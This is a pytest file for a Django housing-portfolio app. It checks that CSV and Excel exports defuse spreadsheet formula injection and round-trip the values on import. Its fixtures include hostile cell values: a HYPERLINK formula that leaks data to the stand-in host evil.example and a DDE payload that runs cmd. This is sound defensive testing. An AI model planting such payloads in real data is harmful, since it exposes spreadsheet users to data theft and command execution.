"""`export_portfolio` writes no live formulas (issue 11, finding 8): a cell that starts with =, +, -, @ is text in
CSV and Excel, as in the web exports (core.exports), and importing the export gives the same values back."""

from __future__ import annotations

from datetime import date

import openpyxl
import pytest
from django.core.management import call_command

from buurtbalans.households.models import Applicant, Household
from buurtbalans.portfolio.models import Dwelling
from buurtbalans.portfolio.services import portfolio_export, portfolio_import

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
DDE = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)"


@pytest.fixture
def hostile(stock_a):
    """Values an import let through as text (an applicant's name, a street), each a formula in a spreadsheet."""
    Dwelling.objects.filter(pk=stock_a.dwellings[0].pk).update(street=DDE)
    Applicant.objects.create(corporation=stock_a.corporation, external_id="A-R1", household=stock_a.households[0],
                             registration_date=date(2024, 1, 1), name=HYPERLINK, city=AT)
    Household.objects.filter(pk=stock_a.households[1].pk).update(external_id="+31-H2")
    return stock_a


def test_the_csv_export_writes_formula_text_with_an_apostrophe_and_imports_back_unchanged(
        hostile, corporation_b, tmp_path):
    folder = tmp_path / "out"
    call_command("export_portfolio", str(folder), "--corporation", "corp-a")
    text = "".join((folder / name).read_text(encoding="utf-8-sig") for name in ("applicants.csv", "dwellings.csv",
                                                                               "households.csv"))
    for value in (HYPERLINK, DDE, AT, "+31-H2"):
        assert value.replace('"', '""') not in text.replace("'" + value.replace('"', '""'), "")
    assert "'=HYPERLINK" in text and "'=cmd|" in text and "'@SUM" in text and "'+31-H2" in text

    report = portfolio_import(source=folder, corporation=corporation_b, dry_run=False)
    assert report.is_valid and report.written, [str(e) for e in report.errors]
    applicant = Applicant.objects.get(corporation=corporation_b, external_id="A-R1")
    assert (applicant.name, applicant.city) == (HYPERLINK, AT)
    assert Dwelling.objects.get(corporation=corporation_b, external_id="A-D1").street == DDE
    assert Household.objects.filter(corporation=corporation_b, external_id="+31-H2").exists()


def test_the_excel_export_writes_formula_text_as_text_cells(hostile, corporation_b, tmp_path):
    path = portfolio_export(corporation=hostile.corporation, actor=None, format="xlsx",
                            destination=tmp_path / "out.xlsx")
    workbook = openpyxl.load_workbook(path)  # not read-only: cell types are known
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    formula_cells = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formula_cells == []
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert {HYPERLINK, DDE, AT, "+31-H2"} <= texts

    report = portfolio_import(source=path, corporation=corporation_b, dry_run=False)
    assert report.is_valid and report.written, [str(e) for e in report.errors]
    assert Applicant.objects.get(corporation=corporation_b, external_id="A-R1").name == HYPERLINK
